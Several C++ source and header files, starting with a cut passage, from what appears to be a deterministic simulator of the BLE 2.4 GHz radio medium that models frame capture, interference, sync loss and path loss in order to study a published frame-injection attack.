    // as sim.dispatch self-time; medium.transmit/deliver carry the profile.
    auto it = active_.find(tx_id);
    if (it == active_.end()) return;
    Transmission& tx = it->second;

    RadioDevice* sender = tx.sender;

    // Deliver to every receiver locked on this frame. Snapshot first: on_rx
    // handlers may retune radios or start transmissions. Walk devices_ in
    // attach order: delivery order decides the rng_ draw order, so heap
    // layout must never leak into it (the PR 3 regression).
    std::vector<RadioDevice*> locked;
    for (RadioDevice* device : devices_) {
        const ListenState& state = device->listen_state_;
        if (state.active && state.locked_tx == tx_id) locked.push_back(device);
    }
    for (RadioDevice* receiver : locked) deliver(tx, *receiver);

    // Keep the record around briefly so frames that overlapped it can still
    // account for its interference, then garbage-collect.
    const TimePoint horizon = scheduler_.now() - 10_ms;
    std::erase_if(active_, [&](const auto& entry) {
        return entry.second.end <= scheduler_.now() && entry.second.end < horizon;
    });
    // NOTE: `tx` may be dangling from here on.

    if (sender != nullptr) {
        sender->transmitting_ = false;
        sender->on_tx_complete();
    }
}

}  // namespace ble::sim
