#include "sim/medium.hpp"

#include <algorithm>
#include <cmath>

#include "common/log.hpp"
#include "obs/prof/profiler.hpp"
#include "sim/radio_device.hpp"

namespace ble::sim {

namespace {
double dbm_to_mw(double dbm) noexcept { return std::pow(10.0, dbm / 10.0); }
double mw_to_dbm(double mw) noexcept { return 10.0 * std::log10(mw); }
}  // namespace

RadioMedium::RadioMedium(Scheduler& scheduler, Rng rng, PathLossModel path_loss,
                         CaptureModel capture, MediumParams params)
    : scheduler_(scheduler),
      rng_(rng),
      path_loss_(std::move(path_loss)),
      capture_(capture),
      params_(params) {}

void RadioMedium::attach(RadioDevice& device) {
    devices_.push_back(&device);
    device.listen_state_ = ListenState{};
    device.listen_state_.attach_order = next_attach_order_++;
}

void RadioMedium::detach(RadioDevice& device) noexcept {
    if (device.listen_state_.active) remove_listener(device, device.listen_state_.channel);
    std::erase(devices_, &device);
    // Any in-flight transmission keeps a sender pointer only for exclusion
    // checks; clear it so a device destroyed mid-frame cannot dangle.
    for (auto& [id, tx] : active_) {
        if (tx.sender == &device) tx.sender = nullptr;
    }
}

void RadioMedium::insert_listener(RadioDevice& device, Channel channel) {
    ListenerList& list = listeners_[channel];
    const std::uint64_t order = device.listen_state_.attach_order;
    // Keep the list sorted by attach order so its walk order equals the
    // historical all-device walk restricted to this channel.  Appending is
    // the hot case (a device re-opening its receive window lands back where
    // it was), so it skips the ordered insert entirely.
    if (list.empty() || list.back()->listen_state_.attach_order < order) {
        list.push_back(&device);
        return;
    }
    const auto pos =
        std::lower_bound(list.begin(), list.end(), order,
                         [](const RadioDevice* d, std::uint64_t attach_order) {
                             return d->listen_state_.attach_order < attach_order;
                         });
    list.insert(pos, &device);
}

void RadioMedium::remove_listener(RadioDevice& device, Channel channel) noexcept {
    ListenerList& list = listeners_[channel];
    if (!list.empty() && list.back() == &device) {  // mirror of the append fast path
        list.pop_back();
        return;
    }
    list.erase_value(&device);
}

void RadioMedium::start_listening(RadioDevice& device, Channel channel) {
    ListenState& state = device.listen_state_;
    if (state.active && state.channel == channel) {
        state.locked_tx = 0;  // re-listening on the same channel drops any sync
        return;
    }
    if (state.active) remove_listener(device, state.channel);
    state.channel = channel;
    state.active = true;
    state.locked_tx = 0;  // switching channels drops any sync
    insert_listener(device, channel);
}

bool RadioMedium::is_receiving(const RadioDevice& device) const noexcept {
    const ListenState& state = device.listen_state_;
    return state.active && state.locked_tx != 0;
}

void RadioMedium::stop_listening(RadioDevice& device) noexcept {
    ListenState& state = device.listen_state_;
    if (state.active) remove_listener(device, state.channel);
    state.active = false;
    state.locked_tx = 0;
}

double RadioMedium::rx_power_dbm(Transmission& tx, const RadioDevice& receiver) {
    auto it = tx.rx_power_dbm.find(&receiver);
    if (it != tx.rx_power_dbm.end()) return it->second;
    // One fading draw per (frame, receiver): channel hopping decorrelates
    // consecutive frames, so each frame sees a fresh fade.
    const double loss =
        tx.sender == nullptr
            ? 200.0
            : path_loss_.sample_loss_db(tx.sender->position(), receiver.position(), rng_);
    const double power = (tx.sender ? tx.sender->tx_power_dbm() : 0.0) - loss;
    tx.rx_power_dbm.emplace(&receiver, power);
    return power;
}

std::uint64_t RadioMedium::transmit(RadioDevice& device, Channel channel, AirFrame frame) {
    static thread_local obs::prof::SpanSite prof_site{"medium.transmit"};
    obs::prof::Span prof_span(prof_site);
    prof_span.add_sim(frame.duration());  // claim the frame's airtime
    // Half-duplex: transmitting suspends any reception in progress.
    stop_listening(device);
    device.transmitting_ = true;

    const std::uint64_t id = next_tx_id_++;
    Transmission tx;
    tx.id = id;
    tx.sender = &device;
    tx.channel = channel;
    tx.start = scheduler_.now();
    tx.end = tx.start + frame.duration();
    tx.frame = std::move(frame);

    auto [it, inserted] = active_.emplace(id, std::move(tx));
    Transmission& stored = it->second;
    // Ids are monotonic, so appending keeps the per-channel view id-ordered.
    channel_active_[channel].push_back(&stored);

    if (bus_.active()) {
        obs::TxStart event;
        event.time = stored.start;
        event.tx_id = id;
        event.channel = channel;
        event.sender = device.name();
        event.bytes = stored.frame.bytes;
        event.duration = stored.frame.duration();
        event.tx_power_dbm = device.tx_power_dbm();
        event.sender_device = &device;
        event.frame = &stored.frame;
        bus_.emit(event);
    }

    // Idle listeners on this channel lock onto the new frame if it is loud
    // enough. Listeners already locked on an earlier frame, or that started
    // listening mid-frame, cannot sync (no preamble for them) — the frame
    // only interferes.  The interest list is the attach-order walk filtered
    // to (active, this channel); the remaining filters match the legacy walk
    // exactly, so both paths make identical RNG fading draws in identical
    // order.
    if (params_.legacy_full_scan) {
        for (RadioDevice* d : devices_) {
            if (d == &device) continue;
            ListenState& state = d->listen_state_;
            if (!state.active || state.channel != channel || state.locked_tx != 0) continue;
            if (d->transmitting()) continue;
            if (rx_power_dbm(stored, *d) >= params_.sensitivity_dbm) {
                state.locked_tx = id;
            }
        }
    } else {
        for (RadioDevice* d : listeners_[channel]) {
            if (d == &device) continue;
            ListenState& state = d->listen_state_;
            if (state.locked_tx != 0 || d->transmitting()) continue;
            if (rx_power_dbm(stored, *d) >= params_.sensitivity_dbm) {
                state.locked_tx = id;
            }
        }
    }

    // The finish event must fire even if the sender detaches mid-frame — the
    // medium outlives every frame, and finish_transmission tolerates a gone
    // sender, so there is never a reason to cancel it.
    (void)scheduler_.schedule_at(  // injectable-lint: allow(D4) -- see above
        stored.end, [this, id] { finish_transmission(id); });
    return id;
}

void RadioMedium::add_tx_observer(TxObserver observer) {
    bus_.subscribe([observer = std::move(observer)](const obs::Event& event) {
        const auto* tx = std::get_if<obs::TxStart>(&event);
        if (tx != nullptr && tx->sender_device != nullptr && tx->frame != nullptr) {
            observer(*tx->sender_device, tx->channel, tx->time, *tx->frame);
        }
    });
}

void RadioMedium::flush_rx_batch() {
    if (rx_batch_.empty()) return;
    bus_.emit_batch(rx_batch_.data(), rx_batch_.size());
    rx_batch_.clear();
}

void RadioMedium::deliver(Transmission& tx, RadioDevice& receiver) {
    static thread_local obs::prof::SpanSite prof_site{"medium.deliver"};
    obs::prof::Span prof_span(prof_site);
    const double signal_dbm = rx_power_dbm(tx, receiver);
    const double noise_mw = dbm_to_mw(params_.noise_floor_dbm);

    // Collect interferers overlapping this frame at this receiver. The
    // carrier-phase alignment between two unsynchronised transmitters rotates
    // with their frequency offset (paper §V-D: survival "depends on the phase
    // difference between the injected and legitimate signals"), with a
    // coherence time on the order of a byte — so the phase lottery is drawn
    // *per byte* below, which is what makes longer overlaps deadlier.
    // channel_active_ is the id-ordered subsequence of active_ on this
    // channel, so both paths visit the same interferers in the same order:
    // same FP accumulation order, same fading draws.
    struct Interferer {
        const Transmission* tx;
        double power_mw;
    };
    std::vector<Interferer> interferers;
    if (params_.legacy_full_scan) {
        for (auto& [other_id, other] : active_) {
            if (other_id == tx.id || other.channel != tx.channel) continue;
            if (other.start >= tx.end || other.end <= tx.start) continue;
            if (other.sender == &receiver) continue;  // own TX handled by half-duplex
            interferers.push_back(
                Interferer{&other, dbm_to_mw(rx_power_dbm(other, receiver))});
        }
    } else {
        for (Transmission* other : channel_active_[tx.channel]) {
            if (other->id == tx.id) continue;
            if (other->start >= tx.end || other->end <= tx.start) continue;
            if (other->sender == &receiver) continue;  // own TX handled by half-duplex
            interferers.push_back(
                Interferer{other, dbm_to_mw(rx_power_dbm(*other, receiver))});
        }
    }

    Bytes bytes = pool_.acquire_copy(tx.frame.bytes);
    bool corrupted = false;
    int corrupted_bytes = 0;
    int sync_bit_errors = 0;
    for (std::size_t i = 0; i < bytes.size(); ++i) {
        const TimePoint byte_start =
            tx.start + tx.frame.preamble_time + static_cast<Duration>(i) * tx.frame.byte_time;
        const TimePoint byte_end = byte_start + tx.frame.byte_time;

        double interference_mw = noise_mw;
        double phase = 0.5;  // neutral when only noise is present
        for (const auto& intf : interferers) {
            if (intf.tx->start < byte_end && intf.tx->end > byte_start) {
                interference_mw += intf.power_mw;
                phase = rng_.next_double();  // per-byte carrier-phase lottery
            }
        }
        const double sir_db = signal_dbm - mw_to_dbm(interference_mw);
        const double p_corrupt = capture_.byte_corruption_prob(sir_db, phase);
        if (rng_.chance(p_corrupt)) {
            // Flip a random bit: the CRC then fails naturally downstream.
            bytes[i] ^= static_cast<std::uint8_t>(1u << rng_.next_below(8));
            corrupted = true;
            ++corrupted_bytes;
            if (i < tx.frame.sync_bytes) ++sync_bit_errors;
        }
    }

    receiver.listen_state_.locked_tx = 0;  // receiver returns to idle listening

    const bool lost_sync = sync_bit_errors > params_.max_sync_bit_errors;
    if (bus_.active()) {
        obs::RxDecision decision;
        decision.time = tx.end;
        decision.tx_id = tx.id;
        decision.channel = tx.channel;
        decision.receiver = receiver.name();
        decision.verdict = lost_sync     ? obs::RxVerdict::kLostSync
                           : corrupted   ? obs::RxVerdict::kDeliveredCorrupted
                                         : obs::RxVerdict::kDelivered;
        decision.rssi_dbm = signal_dbm;
        decision.noise_dbm = params_.noise_floor_dbm;
        decision.corrupted_bytes = corrupted_bytes;
        decision.sync_bit_errors = sync_bit_errors;
        // Buffered, not emitted: runs of lost-sync verdicts (the common case
        // in a crowded spectrum) fan out in one batched call per sink.  The
        // batch is flushed before any device handler runs, so every sink
        // still sees decisions in exactly the unbatched order.
        rx_batch_.emplace_back(decision);
    }
    if (lost_sync) {
        // The correlator never matched: nothing is delivered, exactly like a
        // real radio that misses the access address.
        BLE_LOG_TRACE("medium: ", receiver.name(), " lost sync on tx ", tx.id);
        pool_.release(std::move(bytes));
        return;
    }
    // A tolerated near-miss correlation outputs the *matched* sync word.
    for (std::size_t i = 0; i < tx.frame.sync_bytes && i < bytes.size(); ++i) {
        bytes[i] = tx.frame.bytes[i];
    }

    RxFrame rx;
    rx.bytes = std::move(bytes);
    rx.start = tx.start;
    rx.end = tx.end;
    rx.channel = tx.channel;
    rx.rssi_dbm = signal_dbm;
    rx.corrupted_by_medium = corrupted;
    rx.transmission_id = tx.id;
    flush_rx_batch();  // device code runs next: drain buffered verdicts first
    receiver.on_rx(rx);
    pool_.release(std::move(rx.bytes));  // on_rx sees a const ref; reclaim after
}

void RadioMedium::collect_garbage() {
    // Keep records around briefly so frames that overlapped them can still
    // account for their interference, then reclaim map entry, per-channel
    // slot, and payload buffer together.
    const TimePoint now = scheduler_.now();
    const TimePoint horizon = now - 10_ms;
    for (auto it = active_.begin(); it != active_.end();) {
        Transmission& tx = it->second;
        if (tx.end <= now && tx.end < horizon) {
            channel_active_[tx.channel].erase_value(&tx);
            pool_.release(std::move(tx.frame.bytes));
            it = active_.erase(it);
        } else {
            ++it;
        }
    }
}

void RadioMedium::finish_transmission(std::uint64_t tx_id) {
    // Deliberately unspanned: trivial bookkeeping whose time reads naturally
    // as sim.dispatch self-time; medium.transmit/deliver carry the profile.
    auto it = active_.find(tx_id);
    if (it == active_.end()) return;
    Transmission& tx = it->second;

    RadioDevice* sender = tx.sender;

    // Deliver to every receiver locked on this frame. Snapshot first: on_rx
    // handlers may retune radios or start transmissions. Walk in attach
    // order: delivery order decides the rng_ draw order, so heap layout must
    // never leak into it (the PR 3 regression).  A locked receiver is by
    // invariant still a member of this channel's interest list (locks are
    // cleared on any retune/stop), so the filtered walks agree.
    std::vector<RadioDevice*> locked;
    if (params_.legacy_full_scan) {
        for (RadioDevice* device : devices_) {
            const ListenState& state = device->listen_state_;
            if (state.active && state.locked_tx == tx_id) locked.push_back(device);
        }
    } else {
        for (RadioDevice* device : listeners_[tx.channel]) {
            if (device->listen_state_.locked_tx == tx_id) locked.push_back(device);
        }
    }
    for (RadioDevice* receiver : locked) deliver(tx, *receiver);
    flush_rx_batch();  // trailing lost-sync verdicts with no on_rx after them

    collect_garbage();
    // NOTE: `tx` may be dangling from here on.

    if (sender != nullptr) {
        sender->transmitting_ = false;
        sender->on_tx_complete();
    }
}

}  // namespace ble::sim
