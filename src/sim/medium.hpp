// RadioMedium: the shared 2.4 GHz channel.
//
// Mechanics (mirrors how a real BLE receiver behaves, at byte granularity):
//  * A receiver that is idle-listening on a channel *locks onto* the first
//    transmission that starts while it listens and arrives above sensitivity.
//    It cannot re-sync mid-frame, so a transmission already in flight when the
//    receiver opens its window is missed entirely — this is exactly why
//    window widening exists, and why the attacker's earlier frame wins the
//    race even when the legitimate master transmits moments later.
//  * When the locked transmission ends, every byte that overlapped another
//    transmission (or sits near the noise floor) is corrupted with a
//    probability from CaptureModel.  A corrupted sync header (preamble /
//    access address region) suppresses delivery entirely; corruption later in
//    the frame is delivered as-is and caught by the link layer's CRC — the
//    paper's outcome (b).
//  * Devices are half-duplex: transmitting suspends listening.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <unordered_map>
#include <vector>

#include "common/bytes.hpp"
#include "common/rng.hpp"
#include "common/time.hpp"
#include "obs/bus.hpp"
#include "sim/capture.hpp"
#include "sim/path_loss.hpp"
#include "sim/scheduler.hpp"

namespace ble::sim {

class RadioDevice;

/// BLE channel index, 0..36 data + 37..39 advertising.
using Channel = std::uint8_t;
constexpr Channel kNumChannels = 40;

/// A fully serialized over-the-air frame, PHY-agnostic from the medium's
/// point of view: opaque bytes plus explicit timing.
struct AirFrame {
    /// Access address + PDU + CRC (unwhitened; whitening is a PHY detail that
    /// is bijective per channel, so the medium carries logical bytes).
    Bytes bytes;
    /// Airtime of the preamble preceding bytes[0] (8 µs for LE 1M).
    Duration preamble_time = 8_us;
    /// Airtime of one byte (8 µs for LE 1M).
    Duration byte_time = 8_us;
    /// Corruption within the first `sync_bytes` of `bytes` (plus the
    /// preamble) prevents receiver sync: the frame is silently lost.
    std::size_t sync_bytes = 4;

    [[nodiscard]] Duration duration() const noexcept {
        return preamble_time + static_cast<Duration>(bytes.size()) * byte_time;
    }
};

/// What a locked receiver gets when the frame ends.
struct RxFrame {
    Bytes bytes;  ///< possibly corrupted copy of AirFrame::bytes
    TimePoint start = 0;
    TimePoint end = 0;
    Channel channel = 0;
    double rssi_dbm = -127.0;
    /// God-view flag: true if the medium corrupted at least one byte.  The
    /// protocol stack must NOT consult this (it re-checks CRC like real
    /// hardware); it exists for tests and for validating the paper's Eq. 7
    /// success heuristic against ground truth.
    bool corrupted_by_medium = false;
    /// God-view: id of the transmission this frame came from.
    std::uint64_t transmission_id = 0;
};

/// Per-device receiver state.  Lives inside RadioDevice (not in a
/// medium-side map) so the medium's only iteration surface is `devices_` in
/// attach order: receiver walk order — which decides RNG draw order — can
/// never depend on heap layout (the PR 3 determinism bug class).
struct ListenState {
    Channel channel = 0;
    bool active = false;
    /// Transmission the receiver is locked on (0 = idle).
    std::uint64_t locked_tx = 0;
};

struct MediumParams {
    double noise_floor_dbm = -100.0;
    double sensitivity_dbm = -94.0;
    /// Bit errors tolerated by the sync-word correlator (real BLE receivers
    /// accept an access address with a couple of flipped bits and output the
    /// *matched* pattern). Beyond this, the frame is silently lost.
    int max_sync_bit_errors = 2;
};

class RadioMedium {
public:
    RadioMedium(Scheduler& scheduler, Rng rng, PathLossModel path_loss = PathLossModel{},
                CaptureModel capture = CaptureModel{}, MediumParams params = {});

    RadioMedium(const RadioMedium&) = delete;
    RadioMedium& operator=(const RadioMedium&) = delete;

    /// Called by RadioDevice's constructor/destructor.
    void attach(RadioDevice& device);
    void detach(RadioDevice& device) noexcept;

    /// Device API (normally called through RadioDevice helpers).
    void start_listening(RadioDevice& device, Channel channel);
    void stop_listening(RadioDevice& device) noexcept;
    [[nodiscard]] bool is_receiving(const RadioDevice& device) const noexcept;
    std::uint64_t transmit(RadioDevice& device, Channel channel, AirFrame frame);

    [[nodiscard]] PathLossModel& path_loss() noexcept { return path_loss_; }
    [[nodiscard]] const MediumParams& params() const noexcept { return params_; }
    [[nodiscard]] Scheduler& scheduler() noexcept { return scheduler_; }

    /// Number of transmissions currently in flight (all channels).
    [[nodiscard]] std::size_t active_transmissions() const noexcept { return active_.size(); }

    /// The per-world observation stream.  The medium emits obs::TxStart for
    /// every transmission and obs::RxDecision for every capture verdict; the
    /// other layers (link, ids, world) publish their events here too, so one
    /// subscriber sees the whole trial.
    [[nodiscard]] obs::EventBus& bus() noexcept { return bus_; }

    /// Legacy tx-observer shim, now a bus subscriber under the hood: observe
    /// every transmission start (channel, start, frame, sender).
    using TxObserver =
        std::function<void(const RadioDevice&, Channel, TimePoint, const AirFrame&)>;
    void add_tx_observer(TxObserver observer);

private:
    struct Transmission {
        std::uint64_t id = 0;
        RadioDevice* sender = nullptr;
        Channel channel = 0;
        TimePoint start = 0;
        TimePoint end = 0;
        AirFrame frame;
        /// Memoized received power per receiver (one fading draw per pair).
        /// injectable-lint: allow(D1) -- lookup-only memo (find/emplace, never iterated): heap-address order cannot reach RNG draws or events
        std::unordered_map<const RadioDevice*, double> rx_power_dbm;
    };

    double rx_power_dbm(Transmission& tx, const RadioDevice& receiver);
    void finish_transmission(std::uint64_t tx_id);
    void deliver(Transmission& tx, RadioDevice& receiver);

    Scheduler& scheduler_;
    Rng rng_;
    PathLossModel path_loss_;
    CaptureModel capture_;
    MediumParams params_;
    obs::EventBus bus_;

    std::uint64_t next_tx_id_ = 1;
    /// Attach order: the single iteration surface for receiver walks.
    std::vector<RadioDevice*> devices_;
    /// Ordered by transmission id (== start order) so interference sums —
    /// FP additions, order-sensitive — accumulate identically on every run
    /// and platform.  A handful of frames are in flight at once, so the
    /// O(log n) lookup is irrelevant.
    std::map<std::uint64_t, Transmission> active_;
};

}  // namespace ble::sim
