// RadioMedium: the shared 2.4 GHz channel.
//
// Mechanics (mirrors how a real BLE receiver behaves, at byte granularity):
//  * A receiver that is idle-listening on a channel *locks onto* the first
//    transmission that starts while it listens and arrives above sensitivity.
//    It cannot re-sync mid-frame, so a transmission already in flight when the
//    receiver opens its window is missed entirely — this is exactly why
//    window widening exists, and why the attacker's earlier frame wins the
//    race even when the legitimate master transmits moments later.
//  * When the locked transmission ends, every byte that overlapped another
//    transmission (or sits near the noise floor) is corrupted with a
//    probability from CaptureModel.  A corrupted sync header (preamble /
//    access address region) suppresses delivery entirely; corruption later in
//    the frame is delivered as-is and caught by the link layer's CRC — the
//    paper's outcome (b).
//  * Devices are half-duplex: transmitting suspends listening.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <unordered_map>
#include <vector>

#include "common/bytes.hpp"
#include "common/inline_vec.hpp"
#include "common/pool.hpp"
#include "common/rng.hpp"
#include "common/time.hpp"
#include "obs/bus.hpp"
#include "sim/capture.hpp"
#include "sim/path_loss.hpp"
#include "sim/scheduler.hpp"

namespace ble::sim {

class RadioDevice;

/// BLE channel index, 0..36 data + 37..39 advertising.
using Channel = std::uint8_t;
constexpr Channel kNumChannels = 40;

/// A fully serialized over-the-air frame, PHY-agnostic from the medium's
/// point of view: opaque bytes plus explicit timing.
struct AirFrame {
    /// Access address + PDU + CRC (unwhitened; whitening is a PHY detail that
    /// is bijective per channel, so the medium carries logical bytes).
    Bytes bytes;
    /// Airtime of the preamble preceding bytes[0] (8 µs for LE 1M).
    Duration preamble_time = 8_us;
    /// Airtime of one byte (8 µs for LE 1M).
    Duration byte_time = 8_us;
    /// Corruption within the first `sync_bytes` of `bytes` (plus the
    /// preamble) prevents receiver sync: the frame is silently lost.
    std::size_t sync_bytes = 4;

    [[nodiscard]] Duration duration() const noexcept {
        return preamble_time + static_cast<Duration>(bytes.size()) * byte_time;
    }
};

/// What a locked receiver gets when the frame ends.
struct RxFrame {
    Bytes bytes;  ///< possibly corrupted copy of AirFrame::bytes
    TimePoint start = 0;
    TimePoint end = 0;
    Channel channel = 0;
    double rssi_dbm = -127.0;
    /// God-view flag: true if the medium corrupted at least one byte.  The
    /// protocol stack must NOT consult this (it re-checks CRC like real
    /// hardware); it exists for tests and for validating the paper's Eq. 7
    /// success heuristic against ground truth.
    bool corrupted_by_medium = false;
    /// God-view: id of the transmission this frame came from.
    std::uint64_t transmission_id = 0;
};

/// Per-device receiver state.  Lives inside RadioDevice (not in a
/// medium-side map) so the medium's only iteration surface is `devices_` in
/// attach order: receiver walk order — which decides RNG draw order — can
/// never depend on heap layout (the PR 3 determinism bug class).
struct ListenState {
    Channel channel = 0;
    bool active = false;
    /// Transmission the receiver is locked on (0 = idle).
    std::uint64_t locked_tx = 0;
    /// Monotonic attach sequence number, assigned once by RadioMedium::attach.
    /// The per-channel interest lists sort by it, which makes their walk
    /// order identical to the historical all-device attach-order walk — the
    /// property that keeps RNG draw order (and therefore traces) bit-stable.
    std::uint64_t attach_order = 0;
};

struct MediumParams {
    double noise_floor_dbm = -100.0;
    double sensitivity_dbm = -94.0;
    /// Bit errors tolerated by the sync-word correlator (real BLE receivers
    /// accept an access address with a couple of flipped bits and output the
    /// *matched* pattern). Beyond this, the frame is silently lost.
    int max_sync_bit_errors = 2;
    /// Disable the per-channel interest/transmission indexes and fall back to
    /// the pre-refactor all-device / all-transmission walks.  Bit-identical
    /// results by construction (the indexes are order-preserving caches of
    /// exactly those walks); exists as the honest A/B baseline for the
    /// BM_DenseWorld* speedup claim and the equivalence tests.
    bool legacy_full_scan = false;
};

class RadioMedium {
public:
    RadioMedium(Scheduler& scheduler, Rng rng, PathLossModel path_loss = PathLossModel{},
                CaptureModel capture = CaptureModel{}, MediumParams params = {});

    RadioMedium(const RadioMedium&) = delete;
    RadioMedium& operator=(const RadioMedium&) = delete;

    /// Called by RadioDevice's constructor/destructor.
    void attach(RadioDevice& device);
    void detach(RadioDevice& device) noexcept;

    /// Device API (normally called through RadioDevice helpers).
    void start_listening(RadioDevice& device, Channel channel);
    void stop_listening(RadioDevice& device) noexcept;
    [[nodiscard]] bool is_receiving(const RadioDevice& device) const noexcept;
    std::uint64_t transmit(RadioDevice& device, Channel channel, AirFrame frame);

    [[nodiscard]] PathLossModel& path_loss() noexcept { return path_loss_; }
    [[nodiscard]] const MediumParams& params() const noexcept { return params_; }
    [[nodiscard]] Scheduler& scheduler() noexcept { return scheduler_; }

    /// Number of transmissions currently in flight (all channels).
    [[nodiscard]] std::size_t active_transmissions() const noexcept { return active_.size(); }

    /// Per-channel interest list type: inline capacity covers the sparse
    /// common case (a handful of listeners / frames per channel), dense
    /// channels spill to the heap once and keep the block.
    using ListenerList = InlineVec<RadioDevice*, 4>;

    /// Devices currently listening on `channel`, in attach order (the
    /// delivery walk order; exposed for tests).
    [[nodiscard]] const ListenerList& listeners_on(Channel channel) const noexcept {
        return listeners_[channel];
    }

    /// The payload-buffer freelist (delivery copies + retired frames; tests).
    [[nodiscard]] const BufferPool& frame_pool() const noexcept { return pool_; }

    /// The per-world observation stream.  The medium emits obs::TxStart for
    /// every transmission and obs::RxDecision for every capture verdict; the
    /// other layers (link, ids, world) publish their events here too, so one
    /// subscriber sees the whole trial.
    [[nodiscard]] obs::EventBus& bus() noexcept { return bus_; }

    /// Legacy tx-observer shim, now a bus subscriber under the hood: observe
    /// every transmission start (channel, start, frame, sender).
    using TxObserver =
        std::function<void(const RadioDevice&, Channel, TimePoint, const AirFrame&)>;
    void add_tx_observer(TxObserver observer);

private:
    struct Transmission {
        std::uint64_t id = 0;
        RadioDevice* sender = nullptr;
        Channel channel = 0;
        TimePoint start = 0;
        TimePoint end = 0;
        AirFrame frame;
        /// Memoized received power per receiver (one fading draw per pair).
        /// injectable-lint: allow(D1) -- lookup-only memo (find/emplace, never iterated): heap-address order cannot reach RNG draws or events
        std::unordered_map<const RadioDevice*, double> rx_power_dbm;
    };

    double rx_power_dbm(Transmission& tx, const RadioDevice& receiver);
    void finish_transmission(std::uint64_t tx_id);
    void deliver(Transmission& tx, RadioDevice& receiver);
    void insert_listener(RadioDevice& device, Channel channel);
    void remove_listener(RadioDevice& device, Channel channel) noexcept;
    void flush_rx_batch();
    void collect_garbage();

    Scheduler& scheduler_;
    Rng rng_;
    PathLossModel path_loss_;
    CaptureModel capture_;
    MediumParams params_;
    obs::EventBus bus_;

    std::uint64_t next_tx_id_ = 1;
    std::uint64_t next_attach_order_ = 1;
    /// Attach order: the historical iteration surface for receiver walks,
    /// still authoritative under legacy_full_scan and for detach bookkeeping.
    std::vector<RadioDevice*> devices_;
    /// Per-channel interest lists, sorted by ListenState::attach_order — an
    /// order-preserving index of `devices_` filtered to (active, channel).
    /// Membership invariant: a device appears in listeners_[c] iff its
    /// listen_state_ is {active, channel == c}; locked_tx != 0 implies
    /// membership (locks are only granted to and cleared with listeners).
    std::array<ListenerList, kNumChannels> listeners_;
    /// Ordered by transmission id (== start order) so interference sums —
    /// FP additions, order-sensitive — accumulate identically on every run
    /// and platform.  A handful of frames are in flight at once, so the
    /// O(log n) lookup is irrelevant.
    std::map<std::uint64_t, Transmission> active_;
    /// Per-channel view of `active_` in the same id order (append-only in id
    /// order; erasure preserves relative order), so interference collection
    /// touches co-channel transmissions only.  Map node addresses are stable.
    std::array<InlineVec<Transmission*, 4>, kNumChannels> channel_active_;
    /// Recycles per-delivery payload copies and retired AirFrame payloads.
    BufferPool pool_;
    /// Capture verdicts awaiting batched fanout; always flushed before any
    /// device code (on_rx / on_tx_complete) runs, so the views inside the
    /// buffered events can never dangle and per-sink event order matches
    /// unbatched dispatch exactly.
    std::vector<obs::Event> rx_batch_;
};

}  // namespace ble::sim
