#include "sim/path_loss.hpp"

#include <algorithm>
#include <cmath>

namespace ble::sim {

double distance_m(Position a, Position b) noexcept {
    const double dx = a.x - b.x;
    const double dy = a.y - b.y;
    return std::sqrt(dx * dx + dy * dy);
}

namespace {
double cross(Position o, Position a, Position b) noexcept {
    return (a.x - o.x) * (b.y - o.y) - (a.y - o.y) * (b.x - o.x);
}

bool on_segment(Position p, Position q, Position r) noexcept {
    return std::min(p.x, r.x) <= q.x && q.x <= std::max(p.x, r.x) &&
           std::min(p.y, r.y) <= q.y && q.y <= std::max(p.y, r.y);
}

int orientation(Position p, Position q, Position r) noexcept {
    const double v = cross(p, q, r);
    if (v > 1e-12) return 1;
    if (v < -1e-12) return 2;
    return 0;
}
}  // namespace

bool segments_intersect(Position p1, Position p2, Position p3, Position p4) noexcept {
    const int o1 = orientation(p1, p2, p3);
    const int o2 = orientation(p1, p2, p4);
    const int o3 = orientation(p3, p4, p1);
    const int o4 = orientation(p3, p4, p2);
    if (o1 != o2 && o3 != o4) return true;
    if (o1 == 0 && on_segment(p1, p3, p2)) return true;
    if (o2 == 0 && on_segment(p1, p4, p2)) return true;
    if (o3 == 0 && on_segment(p3, p1, p4)) return true;
    if (o4 == 0 && on_segment(p3, p2, p4)) return true;
    return false;
}

double PathLossModel::mean_loss_db(Position tx, Position rx) const noexcept {
    const double d = std::max(distance_m(tx, rx), 0.1);
    double loss = params_.ref_loss_db + 10.0 * params_.exponent * std::log10(d);
    for (const auto& wall : walls_) {
        if (segments_intersect(tx, rx, wall.a, wall.b)) loss += wall.loss_db;
    }
    return loss;
}

double PathLossModel::sample_loss_db(Position tx, Position rx, Rng& rng) const noexcept {
    return mean_loss_db(tx, rx) + rng.normal(0.0, params_.fading_sigma_db);
}

}  // namespace ble::sim
