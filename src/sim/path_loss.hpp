// Radio propagation: log-distance path loss + wall attenuation + shadowing.
//
// Substitutes for the paper's physical testbed (Fig. 8).  The attack outcome
// under collision is driven by the signal-to-interference ratio at the
// victim's antenna; a log-distance model with per-frame log-normal fading is
// the standard indoor abstraction and reproduces both the distance trend and
// the "every connection is eventually injectable" observation (channel
// hopping re-rolls the fade on every attempt).
#pragma once

#include <vector>

#include "common/rng.hpp"

namespace ble::sim {

struct Position {
    double x = 0.0;
    double y = 0.0;
};

double distance_m(Position a, Position b) noexcept;

/// An attenuating wall segment between two points (metres).
struct Wall {
    Position a;
    Position b;
    double loss_db = 6.0;
};

/// True if segment [p1,p2] crosses segment [p3,p4] (proper or touching).
bool segments_intersect(Position p1, Position p2, Position p3, Position p4) noexcept;

struct PathLossParams {
    /// Free-space-ish reference loss at 1 m for 2.4 GHz.
    double ref_loss_db = 40.0;
    /// Indoor path-loss exponent (2.0 free space, ~2.2 lightly cluttered).
    double exponent = 2.2;
    /// Log-normal shadowing / small-scale fading sigma, drawn per frame.
    /// Channel hopping decorrelates successive frames, so a fresh draw per
    /// transmission-receiver pair is the right granularity.
    double fading_sigma_db = 6.0;
};

class PathLossModel {
public:
    explicit PathLossModel(PathLossParams params = {}) : params_(params) {}

    void add_wall(Wall wall) { walls_.push_back(wall); }
    [[nodiscard]] const std::vector<Wall>& walls() const noexcept { return walls_; }

    /// Deterministic mean loss (path + every wall crossed), in dB.
    [[nodiscard]] double mean_loss_db(Position tx, Position rx) const noexcept;

    /// Mean loss plus a fresh fading draw.
    [[nodiscard]] double sample_loss_db(Position tx, Position rx, Rng& rng) const noexcept;

    [[nodiscard]] const PathLossParams& params() const noexcept { return params_; }

private:
    PathLossParams params_;
    std::vector<Wall> walls_;
};

}  // namespace ble::sim
